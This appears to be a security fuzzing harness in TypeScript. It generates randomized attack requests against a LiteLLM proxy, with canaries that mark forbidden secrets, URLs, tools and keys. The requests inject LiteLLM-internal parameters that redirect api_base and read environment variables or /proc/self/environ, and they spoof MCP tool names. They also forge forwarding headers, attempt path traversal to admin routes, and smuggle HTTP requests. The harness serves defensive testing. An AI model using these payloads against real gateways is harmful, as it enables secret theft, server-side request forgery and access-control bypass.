import net from "node:net";

/** Numbers from 0 to 1, the same for the same seed (mulberry32). */
export function random(seed: number): () => number {
  let state = seed;
  return () => {
    state = (state + 0x6d2b79f5) | 0;
    let mixed = Math.imul(state ^ (state >>> 15), 1 | state);
    mixed = (mixed + Math.imul(mixed ^ (mixed >>> 7), 61 | mixed)) ^ mixed;
    return ((mixed ^ (mixed >>> 14)) >>> 0) / 2 ** 32;
  };
}

/** One attempt: the bytes that go out on a connection of their own. */
export interface Attempt {
  readonly kind: string;
  readonly bytes: Buffer;
}

export interface Canaries {
  /** Names of variables of LiteLLM's process. */
  readonly variables: readonly string[];
  /** URL that nobody may have LiteLLM ask. */
  readonly address: string;
  /** Full name of a tool that the client may not call. */
  readonly tool: string;
  /** Key of a narrow client. */
  readonly key: string;
  readonly models: readonly string[];
}

/** Parameters of LiteLLM that no API of a provider has. */
const LITELLM_PARAMETERS = [
  "api_base",
  "base_url",
  "api_key",
  "mock_response",
  "mock_tool_calls",
  "mock_testing_fallbacks",
  "fallbacks",
  "context_window_fallbacks",
  "custom_llm_provider",
  "litellm_params",
  "litellm_metadata",
  "extra_body",
  "extra_headers",
  "headers",
  "organization",
  "api_version",
  "aws_access_key_id",
  "aws_region_name",
  "vertex_credentials",
  "azure_ad_token",
  "proxy_server_request",
  "secret_fields",
  "callbacks",
  "success_callback",
  "no-log",
  "cache",
  "guardrails",
  "tags",
  "router_settings_override",
  "model_list",
  "num_retries",
  "timeout",
  "input_cost_per_token",
  "litellm_session_id",
  "litellm_trace_id",
  "prompt_id",
  "prompt_variables",
  "user_config",
  "configurable_clientside_auth_params",
  "drop_params",
  "additional_drop_params",
  "client",
  "allowed_openai_params",
  "hf_model_name",
  "ssl_verify",
  "use_in_pass_through",
  "logger_fn",
  "provider_specific_header",
  "fastest_response",
  "caching",
  "litellm_call_id",
];

/** Generates attempts without end, the same for the same seed. */
export function* attempts(
  seed: number,
  { variables, address, tool, key, models }: Canaries,
): Generator<Attempt, never> {
  const next = random(seed);
  const pick = <T>(from: readonly T[]): T => from[Math.floor(next() * from.length)]!;
  const chance = (share: number) => next() < share;
  const secret = () =>
    pick([
      ...variables.map((name) => `os.environ/${name}`),
      "os.environ/oidc/file//proc/self/environ",
      "oidc/file//proc/self/environ",
      "os.environ/oidc/google/x",
      `os.environ/oidc/file//app/config.yaml`,
    ]);
  const reference = () =>
    pick([
      secret(),
      `  ${secret()}`,
      secret().toUpperCase(),
      `\u200b${secret()}`,
      secret().replace("/", "\\u002f"),
      `{{${secret()}}}`,
      `\${${pick(variables)}}`,
    ]);
  const evil = (): unknown =>
    pick<() => unknown>([
      reference,
      () => address,
      () => `${address}/v1`,
      () => ({ api_base: address, api_key: secret() }),
      () => [{ model: pick(models), api_base: address, api_key: secret(), mock_response: secret() }],
      () => ({ url: `${address}/image.png` }),
      () => [{ id: "c", type: "function", function: { name: tool, arguments: '{"message":"canary"}' } }],
      () => true,
    ])();
  const addressIn = () =>
    pick<Record<string, unknown>>([
      { type: "image_url", image_url: { url: `${address}/a.png` } },
      { type: "image_url", image_url: `${address}/a.png` },
      { type: "input_image", image_url: `${address}/a.png` },
      { type: "input_file", file_url: `${address}/a.pdf` },
      { type: "file", file: { file_id: `${address}/a.pdf` } },
      { type: "file", file: { file_data: `${address}/a.pdf` } },
      { type: "image", source: { type: "url", url: `${address}/a.png` } },
      { type: "document", source: { type: "url", url: `${address}/a.pdf` } },
      { type: "input_audio", input_audio: { data: `${address}/a.wav`, format: "wav" } },
      { type: "video_url", video_url: { url: `${address}/a.mp4` } },
    ]);
  const mcpTool = () => ({
    type: pick(["mcp", "MCP", "mcp ", "function"]),
    server_label: pick(["litellm", "x", secret()]),
    server_url: pick([
      "litellm_proxy",
      "litellm_proxy/mcp/everything",
      "litellm_proxy/everything",
      address,
      `${address}/sse`,
      "LITELLM_PROXY",
      "litellm_proxy@evil",
      `litellm_proxy/../${tool}`,
    ]),
    require_approval: pick(["never", "always", { never: { tool_names: [tool] } }]),
    ...(chance(0.5) && { allowed_tools: pick([[tool], tool, ["echo"], { tool_names: [tool] }]) }),
    ...(chance(0.3) && { headers: { "x-mcp-auth": secret() } }),
    ...(chance(0.2) && { authorization: secret() }),
  });
  const model = () =>
    chance(0.8)
      ? pick(models)
      : pick([
          `openai/${pick(models)}`,
          "*",
          "gpt-4",
          `${pick(models)},other`,
          secret(),
          { model: pick(models) },
          [pick(models)],
        ]);
  const routes: Record<string, () => Record<string, unknown>> = {
    "/v1/chat/completions": () => ({
      model: model(),
      messages: [{ role: "user", content: chance(0.3) ? [addressIn()] : chance(0.3) ? reference() : "hello" }],
    }),
    "/v1/responses": () => ({
      model: model(),
      input: chance(0.3) ? [{ role: "user", content: [addressIn()] }] : chance(0.3) ? reference() : "hello",
      ...(chance(0.4) && { tools: [mcpTool()] }),
    }),
    "/v1/messages": () => ({
      model: model(),
      max_tokens: 5,
      messages: [{ role: "user", content: chance(0.3) ? [addressIn()] : "hello" }],
      ...(chance(0.2) && { system: reference() }),
      ...(chance(0.2) && { mcp_servers: [{ type: "url", url: address, name: "x" }] }),
    }),
    "/v1/messages/count_tokens": () => ({ model: model(), messages: [{ role: "user", content: "hello" }] }),
    "/v1/embeddings": () => ({ model: model(), input: chance(0.5) ? reference() : ["a", reference()] }),
  };
  /** Puts a parameter somewhere into a body. */
  const inject = (body: Record<string, unknown>): Record<string, unknown> => {
    const places: Record<string, unknown>[] = [];
    const walk = (value: unknown) => {
      if (Array.isArray(value)) value.forEach(walk);
      else if (typeof value === "object" && value !== null) {
        places.push(value as Record<string, unknown>);
        Object.values(value).forEach(walk);
      }
    };
    walk(body);
    const place = pick(places);
    for (const inner of ["metadata", "stream_options", "response_format", "tool_choice", "reasoning", "extra_body"])
      if (chance(0.05)) body[inner] = { [pick(LITELLM_PARAMETERS)]: evil() };
    place[
      pick([
        ...LITELLM_PARAMETERS,
        "user",
        "metadata",
        "service_tier",
        "tool_choice",
        "tools",
        "stop",
        "previous_response_id",
        "prompt",
        "conversation",
        "include",
        "safety_identifier",
      ])
    ] = evil();
    return body;
  };
  const names = (): string => {
    const [server, bare] = [tool.slice(0, tool.indexOf("-")), tool.slice(tool.indexOf("-") + 1)];
    return pick([
      tool,
      bare,
      ` ${tool}`,
      `${tool} `,
      tool.toUpperCase(),
      `${server}--${bare}`,
      `${server}_${bare}`,
      `${server}/${bare}`,
      `${server}\u2010${bare}`,
      `${server}\uff0d${bare}`,
      `\u0435${tool.slice(1)}`,
      `${tool}\u0000`,
      `${tool}\n`,
      `\ufeff${tool}`,
      `time-${tool}`,
      `time-get_current_time,${tool}`,
      `${server}.${bare}`,
      `time-${bare}`,
      `${server}\t-${bare}`,
      `${server[0]!.toUpperCase()}${tool.slice(1)}`,
      `time-../${tool}`,
      `${tool}\u202e`,
      "__proto__-x",
      "constructor-x",
      "x".repeat(600),
    ]);
  };
  const rpc = (): unknown => {
    const call = {
      jsonrpc: "2.0",
      id: pick<unknown>([1, "a", null, 1.5, { a: 1 }, -1]),
      method: pick([
        "tools/call",
        "tools/call",
        "tools/call",
        "tools/list",
        "resources/read",
        "prompts/get",
        "completion/complete",
        "logging/setLevel",
        "sampling/createMessage",
        "tools/call\n",
      ]),
      params: {
        name: names(),
        arguments: chance(0.3) ? { message: reference(), [pick(LITELLM_PARAMETERS)]: evil() } : { message: "canary" },
      },
    };
    if (chance(0.2)) return chance(0.5) ? [call] : [call, call];
    if (chance(0.3))
      return {
        ...call,
        params: {
          ...call.params,
          [pick(["server", "server_name", "mcp_server", "name ", "_meta", "headers", "task"])]: pick([
            tool,
            address,
            { progressToken: "1" },
            { "x-mcp-auth": secret() },
          ]),
        },
      };
    return call;
  };
  const mcpPath = () =>
    pick([
      "/mcp/",
      "/mcp",
      "/mcp/time",
      "/mcp/everything",
      "/mcp/time,everything",
      "/mcp/test",
      "/mcp/utility",
      "/mcp/,",
      "/mcp/time,",
      "/mcp/all",
      "/mcp/everything,time",
    ]);
  const extraHeaders = () =>
    chance(0.4)
      ? pick([
          `x-mcp-servers: everything`,
          `x-mcp-servers: time, everything`,
          `x-mcp-access-groups: test`,
          `x-mcp-auth: ${secret()}`,
          `x-mcp-everything-authorization: Bearer x`,
          `x-litellm-api-key: sk-other`,
          `x-litellm-api-key: Bearer ${key}`,
          `x-forwarded-for: 127.0.0.1`,
          `x-forwarded-host: ${address}`,
          `x-original-url: /routes`,
          `x-rewrite-url: /key/info`,
          `x-http-method-override: PUT`,
          `forwarded: for=127.0.0.1`,
          `cookie: token=${key}`,
          `api-key: ${key}`,
          `x-litellm-timeout: 1`,
          `x-litellm-tags: a`,
          `anthropic-beta: ${secret()}`,
          `anthropic-version: ${secret()}`,
          `openai-organization: ${secret()}`,
          `transfer-encoding: identity`,
          `x-big: ${"a".repeat(20_000)}`,
          `accept: text/event-stream`,
          `accept: ${secret()}`,
          `: empty`,
          `bad header: x`,
          `x-a: b\u0001c`,
          `expect: 100-continue`,
          `expect: something`,
          `connection: close, x-mcp-servers`,
          `te: trailers`,
          `range: bytes=0-1`,
          `mcp-session-id: ${"1".repeat(50)}`,
          `mcp-protocol-version: 1999-01-01`,
          `last-event-id: 1`,
        ])
      : "";
  const head = (method: string, where: string, headers: readonly string[]) =>
    `${[`${method} ${where} HTTP/1.1`, "Host: gateway", `Authorization: Bearer ${key}`, "Connection: close", ...headers.filter(Boolean)].join("\r\n")}\r\n\r\n`;
  const post = (kind: string, where: string, body: Buffer | string, headers: readonly string[] = []): Attempt => {
    const bytes = Buffer.from(body);
    return {
      kind,
      bytes: Buffer.concat([
        Buffer.from(
          head("POST", where, ["Content-Type: application/json", `Content-Length: ${bytes.length}`, ...headers]),
        ),
        bytes,
      ]),
    };
  };
  const modelRoute = () => pick(Object.keys(routes));
  /** The same text, written otherwise. */
  const disguise = (text: string): Buffer => {
    const escaped = () =>
      text.replace(/[a-z_/]/g, (character) =>
        chance(0.5) ? `\\u${character.charCodeAt(0).toString(16).padStart(4, "0")}` : character,
      );
    return pick<() => Buffer>([
      () => Buffer.from(text, "utf16le"),
      () => Buffer.from(`\ufeff${text}`, "utf16le"),
      () => Buffer.from(text, "utf16le").swap16(),
      () => Buffer.from(`\ufeff${text}`),
      () => Buffer.from(text.replaceAll("/", "\u0000/")),
      () => Buffer.concat([Buffer.from(text.slice(0, -1)), Buffer.from([0xc0, 0xaf, 0x7d])]),
      () => Buffer.from(escaped()),
      () => Buffer.from(escaped()),
      () => Buffer.from(text.replace("{", `{"${pick(LITELLM_PARAMETERS)}":${JSON.stringify(evil())},`)),
      () => Buffer.from(text.replace(/"(model|name|method|params)":/, (found) => `${found}"other",${found}`)),
      () => Buffer.from(`${text}${text}`),
      () => Buffer.from(`${text}\n\n${JSON.stringify({ mock_response: secret() })}`),
      () => Buffer.from(text.replace(/}$/, `,"__proto__":{"api_base":"${address}"}}`)),
      () => Buffer.from(text.replace(/}$/, `,"a":${"[".repeat(300)}${"]".repeat(300)}}`)),
      () => Buffer.from(text.replace(/}$/, ',"a":NaN,"b":Infinity}')),
    ])();
  };
  const paths = (): string => {
    const forbidden = pick([
      "/key/info",
      "/routes",
      "/openapi.json",
      "/utils/transform_request",
      "/mcp-rest/tools/call",
      "/v1/mcp/server",
      "/debug/asyncio-tasks",
      "/key/generate",
      "/engines/mock/chat/completions",
      "/config/yaml",
      "/litellm/hold",
      "/metrics",
      "/model/info",
      "/sso/debug/login",
    ]);
    return pick([
      forbidden,
      `/mcp/..${forbidden}`,
      `/mcp/%2e%2e${forbidden}`,
      `/v1/..${forbidden}`,
      `/v1/models/..${forbidden}`,
      `/mcp/..%2f${forbidden.slice(1)}`,
      `//${forbidden.slice(1)}`,
      forbidden.toUpperCase(),
      `${forbidden}/`,
      `${forbidden}?x=1`,
      `/mcp/;${forbidden}`,
      `/mcp/%00${forbidden}`,
      `/mcp/\\..${forbidden}`,
      `http://gateway${forbidden}`,
      `http://litellm:4000${forbidden}`,
      `${address}${forbidden}`,
      `/v1/models?x=${forbidden}`,
      `/v1/models#${forbidden}`,
      `/%76%31/models/..${forbidden}`,
      `/./${forbidden}`,
      `/mcp/time/..${forbidden}`,
      `*`,
      `/v1/messages?beta=true&x=${forbidden}`,
      `/mcp/?server=everything`,
      `/mcp/%65verything`,
      `/${"a".repeat(9_000)}`,
      `gateway${forbidden}`,
    ]);
  };
  const inner = (where = "/mcp-rest/tools/call") =>
    `POST ${where} HTTP/1.1\r\nHost: gateway\r\nAuthorization: Bearer ${key}\r\nContent-Type: application/json\r\nContent-Length: 2\r\n\r\n{}`;
  const smuggling = (): string => {
    const start = `POST /v1/chat/completions HTTP/1.1\r\nHost: gateway\r\nAuthorization: Bearer ${key}\r\nContent-Type: application/json\r\n`;
    const body = JSON.stringify({ model: pick(models), messages: [{ role: "user", content: "hello" }] });
    const chunks = `${body.length.toString(16)}\r\n${body}\r\n0\r\n\r\n`;
    const hidden = inner(pick(["/mcp-rest/tools/call", "/key/info", "/utils/transform_request", "/mcp/everything"]));
    return pick([
      `${start}Content-Length: ${body.length}\r\nTransfer-Encoding: chunked\r\n\r\n${chunks}${hidden}`,
      `${start}Content-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n${chunks}${hidden}`,
      `${start}Transfer-Encoding: chunked\r\nContent-Length: ${chunks.length + hidden.length}\r\n\r\n${chunks}${hidden}`,
      `${start}Transfer-Encoding:\tchunked\r\n\r\n${chunks}${hidden}`,
      `${start}Transfer-Encoding: xchunked\r\n\r\n${chunks}${hidden}`,
      `${start}Transfer-Encoding: chunked, identity\r\n\r\n${chunks}${hidden}`,
      `${start}Transfer-Encoding: identity, chunked\r\n\r\n${chunks}${hidden}`,
      `${start}Transfer-Encoding : chunked\r\n\r\n${chunks}${hidden}`,
      `${start}X: y\r\n Transfer-Encoding: chunked\r\n\r\n${chunks}${hidden}`,
      `${start}Transfer-Encoding: chunked\r\nTransfer-Encoding: identity\r\n\r\n${chunks}${hidden}`,
      `${start}Content-Length: ${body.length}\r\nContent-Length: ${body.length + hidden.length}\r\n\r\n${body}${hidden}`,
      `${start}Content-Length: ${body.length}, ${body.length + hidden.length}\r\n\r\n${body}${hidden}`,
      `${start}Content-Length: +${body.length}\r\n\r\n${body}${hidden}`,
      `${start}Content-Length: ${body.length - 5}\r\n\r\n${body}${hidden}`,
      `${start}Content-Length: ${body.length + 500}\r\n\r\n${body}`,
      `${start}Content-Length: -1\r\n\r\n${body}`,
      `${start}Content-Length: 0x10\r\n\r\n${body}`,
      `${start}Content-Length: 0\r\n\r\n${hidden}`,
      `${start.replaceAll("\r\n", "\n")}Content-Length: ${body.length}\n\n${body}${hidden}`,
      `${start}X-A: b\nTransfer-Encoding: chunked\r\n\r\n${chunks}${hidden}`,
      `${start}X-A: b\rTransfer-Encoding: chunked\r\n\r\n${chunks}${hidden}`,
      `${start}Transfer-Encoding: chunked\r\n\r\n${body.length.toString(16)};a="\n\n"\r\n${body}\r\n0\r\nX-Mcp-Servers: everything\r\n\r\n${hidden}`,
      `${start}Transfer-Encoding: chunked\r\n\r\n0x${body.length.toString(16)}\r\n${body}\r\n0\r\n\r\n${hidden}`,
      `${start}Transfer-Encoding: chunked\r\n\r\nfffffffffffffffff\r\n${body}`,
      `${start}Transfer-Encoding: chunked\r\n\r\n${body.length.toString(16)}\n${body}\n0\n\n${hidden}`,
      `${start}Authorization: Bearer sk-other\r\nContent-Length: ${body.length}\r\n\r\n${body}`,
      `${start}Host: other\r\nContent-Length: ${body.length}\r\n\r\n${body}`,
      `GET /health HTTP/1.1\r\nHost: a\r\n\r\n${inner()}${inner("/key/info")}`,
      `GET /v1/models HTTP/1.1\r\nHost: gateway\r\nAuthorization: Bearer ${key}\r\nContent-Length: ${hidden.length}\r\n\r\n${hidden}`,
      `GET /v1/models HTTP/1.0\r\nAuthorization: Bearer ${key}\r\n\r\n${hidden}`,
      `GET /v1/models\r\n\r\n`,
      `GET /mcp/ HTTP/1.1\r\nHost: gateway\r\nAuthorization: Bearer ${key}\r\nConnection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABkAARAAAAAAAIAAAAA\r\n\r\n${hidden}`,
      `GET ${pick(["/mcp/", "/v1/models", "/v1/realtime", "/health"])} HTTP/1.1\r\nHost: gateway\r\nAuthorization: Bearer ${key}\r\nConnection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n\r\n${hidden}`,
      `PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\u0000\u0000\u0000\u0004\u0000\u0000\u0000\u0000\u0000`,
      `CONNECT litellm:4000 HTTP/1.1\r\nHost: litellm:4000\r\n\r\n${hidden}`,
      `TRACE /mcp/ HTTP/1.1\r\nHost: gateway\r\nAuthorization: Bearer ${key}\r\n\r\n`,
      `POST /mcp/ HTTP/1.1\r\nHost: gateway\r\nAuthorization: Bearer ${key}\r\nContent-Type: application/json\r\n\r\n${hidden}`,
      `post /mcp/ HTTP/1.1\r\nHost: gateway\r\nAuthorization: Bearer ${key}\r\nContent-Length: 0\r\n\r\n`,
      `POST /mcp/ HTTP/1.1\r\nHost: gateway\r\nAuthorization: Bearer ${key}\r\nContent-Encoding: gzip\r\nContent-Type: application/json\r\nContent-Length: 2\r\n\r\n{}${hidden}`,
      `POST /mcp/ HTTP/1.1\r\nHost: gateway\r\nAuthorization: Bearer ${key}\r\nContent-Type: ${pick(["application/x-www-form-urlencoded", "multipart/form-data; boundary=a", "text/plain", "application/json; charset=utf-16", "application/json, text/plain", ""])}\r\nContent-Length: 2\r\n\r\n{}`,
      `\u0016\u0003\u0001\u0002\u0000\u0001\u0000\u0001\u00fc\u0003\u0003`,
    ]);
  };
  for (;;) {
    const which = next();
    if (which < 0.4) {
      const route = modelRoute();
      yield post(`parameters of ${route}`, route, JSON.stringify(inject(routes[route]!())), [extraHeaders()]);
    } else if (which < 0.55) {
      const route = chance(0.3) ? mcpPath() : modelRoute();
      yield post(
        `encoding at ${route}`,
        route,
        disguise(JSON.stringify(routes[route] ? inject(routes[route]()) : rpc())),
        [extraHeaders()],
      );
    } else if (which < 0.75) yield post("MCP", mcpPath(), JSON.stringify(rpc()), [extraHeaders()]);
    else if (which < 0.85) {
      const method = pick(["GET", "POST", "PUT", "PATCH", "DELETE", "OPTIONS", "HEAD"]);
      yield {
        kind: "path",
        bytes: Buffer.from(head(method, paths(), [extraHeaders(), ...(chance(0.5) ? ["Content-Length: 0"] : [])])),
      };
    } else yield { kind: "bytes", bytes: Buffer.from(smuggling(), "latin1") };
  }
}

/** Sends an attempt and gives all that comes back until the connection ends, or is silent for `silenceMs`. */
export function send(
  attempt: Buffer,
  { host, port, silenceMs = 1_500 }: { readonly host: string; readonly port: number; readonly silenceMs?: number },
): Promise<string> {
  return new Promise((resolve) => {
    const chunks: Buffer[] = [];
    const socket = net.connect(port, host, () => socket.write(attempt));
    const done = () => {
      socket.destroy();
      resolve(Buffer.concat(chunks).toString("latin1"));
    };
    socket.setTimeout(silenceMs, done);
    socket.on("data", (chunk) => chunks.push(chunk));
    // A connection that is reset has said what it had to say.
    socket.on("error", done);
    socket.on("close", done);
  });
}

/** Does `work` for each, so many at once. */
export async function inParallel<T>(items: Iterable<T>, most: number, work: (item: T) => Promise<void>): Promise<void> {
  const iterator = items[Symbol.iterator]();
  const worker = async () => {
    for (let item = iterator.next(); !item.done; item = iterator.next()) await work(item.value);
  };
  await Promise.all(Array.from({ length: most }, worker));
}
